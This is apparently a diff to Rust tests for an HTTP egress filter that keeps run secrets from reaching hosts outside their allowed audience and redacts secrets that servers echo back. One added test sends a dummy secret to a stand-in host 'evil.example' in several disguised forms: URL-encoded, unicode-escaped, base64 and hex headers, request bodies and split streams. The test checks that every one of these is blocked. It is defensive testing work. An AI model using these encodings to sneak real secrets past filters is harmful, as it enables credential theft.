@@ -126,8 +126,8 @@ async fn not_in_what_comes_back() {
     };
     let egress = Egress::new(names());
     let response = egress.send(&open(&["127.0.0.1"]), request("/stay?a=b")).await.unwrap();
-    assert_eq!(response.headers["x-echo"], "/stay?a=b&id=[redacted]");
-    assert_eq!(response.headers["x-plain"], "[redacted]");
+    assert_eq!(response.headers["x-echo"], "/stay?a=b&id=[secret id]");
+    assert_eq!(response.headers["x-plain"], "[secret id]");
     let response = egress.send(&open(&["127.0.0.1"]), request("/away?a=b")).await.unwrap();
     assert_eq!(server.log().pop().unwrap().line, "GET /?a=b HTTP/1.1");
     assert!(!format!("{response:?}").contains("s3cr3t"));
@@ -151,7 +151,7 @@ async fn a_redirect_may_not_carry_it_away() {
             ..get(format!("http://api.example:{}/", server.port))
         };
         let result = Egress::new(names()).send(&open(&["127.0.0.1"]), request).await;
-        assert_eq!(gate(&result), "audience", "{slash}");
+        assert_eq!(gate(&result), "secret", "{slash}");
         assert!(!format!("{result:?}").contains("s3cr3t"));
         assert_eq!(server.log().len(), 1);
     }
@@ -197,4 +197,78 @@ async fn two_in_one_place_are_refused() {
     };
     let result = Egress::new(names()).send(&open(&["127.0.0.1"]), request).await;
     assert_eq!(code(&result), "bad-arguments");
+}
+
+#[tokio::test]
+async fn no_request_carries_a_secret_of_the_run_elsewhere() {
+    let server = Server::start(|_| ok("x")).await;
+    let secrets = Arc::new(crate::RunSecrets::default());
+    secrets
+        .add("key", &["http://api.example:*".parse().unwrap()], &SecretValue::new(SECRET))
+        .unwrap();
+    let evil = format!("http://evil.example:{}", server.port);
+    let api = format!("http://api.example:{}", server.port);
+    let egress = Egress::new(names());
+    let send = async |method: &str, url: String, headers: &[(&str, &str)], body: RequestBody| {
+        let request = EgressRequest {
+            headers: header_map(headers.iter().copied()).unwrap(),
+            body,
+            secrets: secrets.clone(),
+            ..EgressRequest::new(method, url, account())
+        };
+        egress.send(&open(&["127.0.0.1"]), request).await
+    };
+    let stream = |size: usize| {
+        let text = format!("{}it is {SECRET}, is it not?", "x".repeat(1000));
+        let pieces: Vec<_> =
+            text.into_bytes().chunks(size).map(bytes::Bytes::copy_from_slice).collect();
+        let frames = pieces.into_iter().map(|piece| Ok(http_body::Frame::data(piece)));
+        let body = http_body_util::StreamBody::new(futures::stream::iter(frames));
+        let body = http_body_util::combinators::UnsyncBoxBody::new(body);
+        RequestBody::Stream { body, length: None }
+    };
+    let nothing = || RequestBody::Empty;
+    for (url, headers) in [
+        (format!("{evil}/s3cr3t%2Fvalue"), &[][..]),
+        (format!("{evil}/?q=s3cr3t/value"), &[]),
+        (format!("{evil}/?q=%5Cu0073%5Cu0033cr3t/value"), &[]),
+        (format!("{evil}/"), &[("x-found", "czNjcjN0L3ZhbHVl")]),
+        (format!("{evil}/"), &[("x-7333637233742f76616c7565", "")]),
+    ] {
+        let result = send("GET", url.clone(), headers, nothing()).await;
+        assert_eq!(gate(&result), "secret", "{url} {headers:?}");
+        assert!(!format!("{result:?}").contains("s3cr3t"));
+    }
+    let result = send("POST", evil.clone(), &[], RequestBody::Bytes(SECRET.into())).await;
+    assert_eq!(gate(&result), "secret");
+    assert_eq!(server.connections(), 0);
+    // To its own audience it may go, and what is none anywhere.
+    assert!(send("POST", api.clone(), &[], RequestBody::Bytes(SECRET.into())).await.is_ok());
+    assert!(send("POST", evil.clone(), &[], RequestBody::Bytes("s3cr3t".into())).await.is_ok());
+    for size in [1, 5, 7, 4096] {
+        let result = send("POST", evil.clone(), &[], stream(size)).await;
+        assert_eq!(gate(&result), "secret", "in pieces of {size}");
+        assert!(send("POST", api.clone(), &[], stream(size)).await.is_ok(), "in pieces of {size}");
+        let received = server.log().pop().unwrap();
+        assert!(
+            String::from_utf8_lossy(&received.body).ends_with("it is s3cr3t/value, is it not?")
+        );
+    }
+    let evil_got =
+        server.log().into_iter().filter(|r| r.header("host").unwrap().starts_with("evil"));
+    assert!(evil_got.into_iter().all(|r| !String::from_utf8_lossy(&r.body).contains(SECRET)));
+}
+
+#[tokio::test]
+async fn what_a_server_repeats_in_its_body_is_taken_out() {
+    let server = Server::start(|request| ok(request.header("authorization").unwrap())).await;
+    let request = EgressRequest {
+        headers: header_map([("accept-encoding", "br")]).unwrap(),
+        credentials: vec![credential("key", &["http://api.example:*"], bearer())],
+        ..get(format!("http://api.example:{}/", server.port))
+    };
+    let mut response = Egress::new(names()).send(&open(&["127.0.0.1"]), request).await.unwrap();
+    assert_eq!(text(&mut response.body).await, "Bearer [secret key]");
+    // In another coding it would not have been found.
+    assert_eq!(server.log().pop().unwrap().header("accept-encoding"), Some("gzip"));
 }
